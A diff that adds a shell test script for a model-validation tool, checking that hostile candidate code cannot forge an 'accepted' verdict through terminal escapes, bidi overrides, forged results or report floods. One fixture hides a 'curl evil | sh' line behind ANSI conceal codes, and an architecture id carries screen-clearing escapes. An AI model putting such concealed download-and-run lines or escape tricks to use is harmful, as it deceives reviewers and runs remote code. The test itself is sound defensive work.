@@ -1,0 +1,80 @@
+# trust.sh - what a person reads is ours, and only the validate child can
+# say "accepted" (issue "Zero-trust build child").  Candidate bytes never
+# reach a terminal raw; a verdict read from the build child is labelled.
+. "$TOP_SRCDIR/tests/live/lib.sh"
+DB=$TMP/pool.db
+ESC=$(printf '\033')
+
+# raw_controls FILE: how many raw ESC, other C0 (but \t \n), DEL, C1 or
+# bidi-override characters FILE holds
+raw_controls() {
+	"$PY" - "$1" <<'PYEOF'
+import re, sys
+text = open(sys.argv[1], "rb").read().decode("utf-8", "replace")
+print(len(re.findall("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]", text)))
+PYEOF
+}
+
+# 1. an error message that erases the verdict line and paints "accepted"
+"$AEGIS" run --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/152_terminal_escapes.py" >"$TMP/human" 2>"$TMP/stderr"
+expect "hostile error message: rejected" "$?" 1
+expect "the verdict line is ours" "$(head -1 "$TMP/human" | sed 's/.*: //')" "rejected (stage build)"
+expect "no raw control byte in run's human output" "$(raw_controls "$TMP/human")" 0
+expect "the escapes are shown, not obeyed" "$(grep -c 'RuntimeError: \\x1b\[1A\\x1b\[2K\\x0d\\x1b\[32mmodel.py: accepted' "$TMP/human")" 1
+expect "the bidi override is shown, not obeyed" "$(grep -c '\\u202e' "$TMP/human")" 1
+
+# 2. an accepted model whose comment hides code from a reviewer, recorded
+# under an architecture id full of escapes
+cat >"$TMP/hider.py" <<EOF
+import torch.nn as nn
+
+# ${ESC}[8m
+# torch.os.system("curl evil | sh")  (hidden on a terminal)
+# ${ESC}[28m
+
+
+class Model(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.fc = nn.Linear(100, 10)
+
+    def forward(self, x):
+        return self.fc(x)
+EOF
+"$AEGIS" run --db "$DB" --request-approval --no-train --input float:2x100 \
+	--arch-id "$(printf 'gen1\033[2J\033]0;pwned\007')" "$TMP/hider.py" >"$TMP/human" 2>"$TMP/stderr"
+expect "hider: accepted" "$?" 0
+expect "no raw control byte in run's output, arch id included" "$(raw_controls "$TMP/human")" 0
+run_cmd "$AEGIS" pool show 1 --db "$DB"
+expect "pool show: no raw control byte" "$(raw_controls "$TMP/out")" 0
+expect "pool show: the hidden line is visible" "$(grep -c '^# \\x1b\[8m$' "$TMP/out")" 1
+run_cmd "$AEGIS" pool list --db "$DB"
+expect "pool list: no raw control byte" "$(raw_controls "$TMP/out")" 0
+run_cmd "$AEGIS" approvals list --db "$DB"
+expect "approvals list: no raw control byte" "$(raw_controls "$TMP/out")" 0
+expect "approvals list: the title shows the escapes" "$(grep -c 'New architecture: gen1\\x1b\[2J\\x1b\]0;pwned\\x07' "$TMP/out")" 1
+run_cmd "$AEGIS" approvals show 1 --db "$DB"
+expect "approvals show: no raw control byte" "$(raw_controls "$TMP/out")" 0
+run_cmd "$AEGIS" pool show 1 --db "$DB" --json
+expect "--json keeps the bytes (JSON escapes them)" "$(grep -q '\\u001b\[8m' "$TMP/out" && echo kept)" kept
+
+# 3. a verdict read from the build child is labelled, and only when the
+# operator's policy asked for it
+run_model --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/138_forge_inprocess_result.py"
+expect "forged in-process result, default policy: no archive, rejected" "$(field '(r["status"], r["error"]["type"], r.get("integrity"))')" "('rejected', 'NoArtifact', None)"
+run_model --no-train --input float:2x100 --set validation.export_failure=in-process \
+	"$TOP_SRCDIR/tests/escape/138_forge_inprocess_result.py"
+expect "the same when the policy allows in-process: unverified, and says why" \
+	"$(field '(r["status"], r["integrity"], "could have forged" in r["integrity_note"])')" "('accepted', 'unverified', True)"
+"$AEGIS" run --no-train --input float:2x100 --set validation.export_failure=in-process \
+	"$MODELS/unexportable.py" >"$TMP/human" 2>"$TMP/stderr"
+expect "human output says UNVERIFIED" "$(grep -c '^  integrity    UNVERIFIED: validated inside the candidate' "$TMP/human")" 1
+
+# 4. a report the supervisor must parse fast: 150,000 keys in one line,
+# and a flood of lines; the verdict is bounded in size
+run_model --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/150_report_key_flood.py"
+expect "key flood: violation for the second result line" "$(field '(r["status"], r["error"]["message"])')" "('violation', 'report: line 3 of the report channel: a second result line')"
+run_model --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/151_report_line_flood.py"
+expect "line flood: a hundred violations kept" "$(field '(r["status"], len(r["violations"]))')" "('violation', 100)"
+expect "line flood: the verdict stays small" "$(wc -c <"$TMP/r.json" | awk '{print ($1 < 200000) ? "small" : $1}')" small
+finish
